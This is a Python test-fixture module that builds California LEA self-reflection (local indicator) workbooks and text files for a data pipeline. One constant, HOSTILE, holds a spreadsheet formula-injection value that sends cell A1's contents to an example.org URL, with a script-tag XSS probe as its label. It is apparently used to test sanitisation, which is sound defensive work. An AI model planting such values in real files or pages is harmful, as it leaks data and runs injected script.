"""Small local indicator files with what LEAs say of themselves."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

from state_files import BUTTE, facts, text, workbook

from level1.state.self_reflection import ITEMS
from level1.state.tables import FOLDER

COE = "04100410000000"
BEFORE = ("cdsCode", "lea", "priorityNumber")
AFTER = ("countyPerformance", "additionalInfo", "meetingDate", "year")
TEXTS = {
    1: ("numMisassignments", "numMaterials", "numFacilities"),
    2: ("nativeSummary",),
    # As the workbooks cut the names.
    3: ("Narrative1aRelationshipsStrength", "Narrative1bRelationshipsFocusAre", "Narrative3cInputImproveEngagemen"),
    6: ("summary", "summary1", "summary2", "summary3"),
    7: ("measures", "summary", "barriers", "revisions"),
    9: (),
    10: (),
}
OWN = "A long answer of an LEA which nobody may find here again"
HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"<script>alert(1)</script>")'


def columns(priority: int) -> list[str]:
    return [*BEFORE, *TEXTS[priority], *ITEMS.get(priority, ()), *AFTER]


def row(priority: int, names: Sequence[str], **cells: Any) -> list[Any]:
    """A row of Butte Valley Unified with every item at 4, unless told otherwise."""
    usual = {
        "cdsCode": BUTTE,
        "lea": "Butte Valley Unified",
        "priorityNumber": priority,
        **dict.fromkeys(TEXTS[priority], OWN),
        **dict.fromkeys(ITEMS.get(priority, ()), 4),
        "countyPerformance": "Met",
        "meetingDate": "2024-06-11",
        "year": 2024,
    }
    return [{**usual, **cells}.get(name, "") for name in names]


def table(priority: int, *rows: dict[str, Any]) -> list[list[Any]]:
    return [columns(priority), *(row(priority, columns(priority), **cells) for cells in rows)]


def pr(folder: Path, priority: int, *rows: dict[str, Any], year: int = 2024, end: str = "xlsx") -> Path:
    folder.mkdir(exist_ok=True)
    cells = table(priority, *({"year": year, **one} for one in rows))
    name = folder / f"Pr{priority}{year}.{end}"
    if end == "xlsx":
        return workbook(name, Sheet1=cells)
    return text(name, cells, {"txt": "|", "csv": ","}[end])


def own(root: Path, priority: int, year: int = 2024) -> tuple[Any, ...]:
    return facts(root, f"self-reflection-{year}-{priority}")


def written(root: Path, year: int = 2024) -> Path:
    return root / "content" / "reference" / FOLDER / f"self-reflection-{year}.csv"


def none(priority: int) -> dict[str, Any]:
    return dict.fromkeys(ITEMS[priority], 0)


def four(folder: Path, **cells: Any) -> list[Path]:
    return [
        pr(folder, 2, {"cdsCode": COE, **cells}, {"programELA": 1}),
        pr(folder, 3, {"cdsCode": COE}, {"LegalRightsPartnership": 2}),
        pr(folder, 9, {"cdsCode": COE, "devPlan": 3}),
        pr(folder, 10, {"cdsCode": COE, "needs": 3}),
    ]
